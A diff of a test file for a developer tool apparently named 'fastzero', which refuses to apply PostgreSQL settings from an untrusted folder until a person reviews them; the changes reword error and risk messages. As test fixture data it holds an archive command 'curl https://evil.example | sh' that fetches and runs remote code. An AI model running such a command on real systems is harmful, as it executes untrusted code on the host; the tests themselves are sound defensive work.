@@ -33,7 +33,7 @@ def test_every_command_that_would_use_them_refuses(words: list[str], fastzero: R
     assert (refused.code, refused.out) == (5, "")
     assert refused.err.splitlines() == [
         "Error: this folder is not trusted, and sets postgres_settings.Archive-Command (fastzero.toml:4)",
-        "Hint: See what they could do, and trust them if you know the folder: fastzero trust",
+        "Hint: Review what they could do, and trust them if you know the folder: fastzero trust",
     ]
 
 
@@ -59,7 +59,7 @@ def test_a_person_is_shown_everything_and_asked(fastzero: Run) -> None:
     with Terminal("trust") as terminal:
         terminal.wait_for("is not trusted")
         terminal.wait_for('fastzero.toml:4  postgres_settings.Archive-Command = "curl https://evil.example | sh"')
-        terminal.wait_for("PostgreSQL runs or loads what it names.")
+        terminal.wait_for("PostgreSQL runs the command or loads the library that it names.")
         terminal.wait_for("Go on?")
         terminal.type("y\n")
         assert terminal.end().code == 0
@@ -140,7 +140,7 @@ def test_json_has_the_state_and_every_field(fastzero: Run) -> None:
                 "value": "curl https://evil.example | sh",
                 "file": "fastzero.toml",
                 "line": 4,
-                "risk": "PostgreSQL runs or loads what it names",
+                "risk": "PostgreSQL runs the command or loads the library that it names",
                 "change": "",
                 "before": [],
             }
@@ -178,7 +178,7 @@ def test_no_spelling_opens_the_database_to_the_network_even_where_it_is_trusted(
     fastzero("trust", "--yes")
     refused = fastzero("up")
     assert refused.code == 2
-    assert "decided by fastzero itself" in refused.err
+    assert "set by fastzero and cannot be changed" in refused.err
 
 
 def test_a_committed_project_deletes_no_other_folder(
